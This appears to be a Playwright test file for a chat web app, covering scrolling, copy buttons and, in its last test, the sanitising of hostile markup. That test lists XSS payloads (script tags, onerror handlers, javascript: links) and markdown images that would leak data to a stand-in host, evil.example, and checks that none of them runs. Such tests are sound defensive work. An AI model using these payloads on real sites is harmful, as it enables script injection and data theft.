import { distanceToEnd, scrollTop, wheelUp } from '../fixtures/scrolling'
import { expect, test } from '../fixtures/story-test'

test('the page follows at the end, lets go when one scrolls up, and a button leads back', async ({
  chat,
  page,
  upstream,
  question,
}) => {
  const [more, most] = [upstream.gate(`${question} 2`), upstream.gate(`${question} 3`)]
  const jump = page.getByRole('button', { name: chat.words.chat.jumpToLatest })
  await chat.say(
    `${question}\npace: 1\nlong: 20\nhold: ${question} 2\nlong: 20\nhold: ${question} 3\nlong: 3`,
  )
  await expect(chat.answer).toContainText('Paragraph 20 of 20')
  await expect.poll(() => distanceToEnd(page)).toBeLessThan(2)
  await expect(jump).toBeHidden()

  await wheelUp(page, 300)
  await expect(jump).toBeVisible()
  const top = await scrollTop(page)
  more.open()
  await expect.poll(() => chat.count('Paragraph 20 of 20')).toBe(2)
  expect(await scrollTop(page), 'new text does not move what is read').toBe(top)
  await expect(jump).toBeVisible()

  await jump.click()
  await expect(jump).toBeHidden()
  await expect.poll(() => distanceToEnd(page)).toBeLessThan(2)
  most.open()
  await expect(chat.answer).toContainText('Paragraph 3 of 3')
  await chat.finished()
  await expect.poll(() => distanceToEnd(page)).toBeLessThan(2)

  // By keyboard, and back to the end by scrolling there.
  await page.locator('#conversation').focus()
  await page.keyboard.press('PageUp')
  await expect(jump).toBeVisible()
  await chat.answer.hover()
  await page.mouse.wheel(0, 5_000)
  await expect(jump).toBeHidden()
})

test('a reloaded chat opens at its end, and a short one has nothing to jump to', async ({
  chat,
  page,
  question,
}) => {
  const jump = page.getByRole('button', { name: chat.words.chat.jumpToLatest })
  await chat.say('say: Short')
  await chat.finished()
  await chat.answer.hover()
  await page.mouse.wheel(0, -300)
  await expect(jump).toBeHidden()

  await chat.say(`${question}\npace: 0\nlong: 30`)
  await chat.finished()
  await page.reload()
  await chat.ready()
  await expect(chat.answer).toContainText('Paragraph 30 of 30')
  await expect.poll(() => distanceToEnd(page)).toBeLessThan(2)
  await expect(jump).toBeHidden()
})

test('an answer and its code are copied as they were written', async ({
  chat,
  page,
  context,
  question,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await chat.say(question)
  await chat.finished()
  await chat.answer.getByRole('button', { name: chat.words.chat.copyAnswer }).click()
  await expect(chat.answer.getByRole('button', { name: chat.words.chat.copied })).toBeVisible()
  const copied = () => page.evaluate(() => navigator.clipboard.readText())
  expect(await copied()).toMatch(/^## Streaming over a real socket\n\n.+\*\*scripted upstream\*\*/)
  expect(await copied()).toContain('```ts\nconst answer = 6 * 7\n```')

  const code = chat.answer.getByRole('group', { name: 'Code in TypeScript' })
  await code.getByRole('button', { name: chat.words.markdown.copyCode }).click()
  await expect.poll(copied).toBe('const answer = 6 * 7')
  const said = chat.questions.first()
  await said.hover()
  await said.getByRole('button', { name: chat.words.chat.copyMessage }).click()
  await expect.poll(copied).toBe(question)
})

test('markup in an answer or a title is text, and nothing is fetched for it', async ({
  chat,
  page,
  upstream,
  question,
}) => {
  const hostile = [
    '<script>window.hacked = 1</script>',
    '<img src="https://evil.example/pixel.png" onerror="window.hacked = 2">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<style>body { display: none }</style>',
    '![a picture](https://evil.example/leak.png?said=secret)',
    '![by reference][leak]\n\n[leak]: https://evil.example/leak.png?said=more',
    '[click me](javascript:window.hacked=3)',
    '<a href="data:text/html,hello" onclick="window.hacked = 4">a link</a>',
  ]
  const title = '<img src=x onerror="window.hacked = 5">'
  upstream.scriptTitle(question, () => [{ type: 'text', delta: title }])
  upstream.script(question, () => hostile.map((line) => ({ type: 'text', delta: `${line}\n\n` })))
  await chat.say(`${question} <b onmouseover="window.hacked = 6">bold</b>`)
  await chat.finished()
  await expect(chat.chat(title)).toBeVisible()

  const policy = (await page.request.get('/')).headers()['content-security-policy']
  expect(policy).toContain("img-src 'self' data: blob:;")
  for (const again of [false, true]) {
    if (again) await page.reload()
    await chat.ready()
    for (const line of hostile.filter((each) => each.startsWith('<')))
      await expect(chat.answer).toContainText(line)
    await expect(chat.questions).toContainText('<b onmouseover="window.hacked = 6">bold</b>')
    await expect(chat.log.locator('script, img, iframe, style, [onclick], [onerror]')).toHaveCount(
      0,
    )
    await expect(chat.log.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0)
    await expect(chat.answer.getByRole('link', { name: /a picture/ })).toHaveAttribute(
      'rel',
      /noopener.*noreferrer/,
    )
    await expect(chat.answer.getByRole('link', { name: /by reference/ })).toBeVisible()
    await expect(page).toHaveTitle(`${title} — Rivulet`)
    expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
  }
})
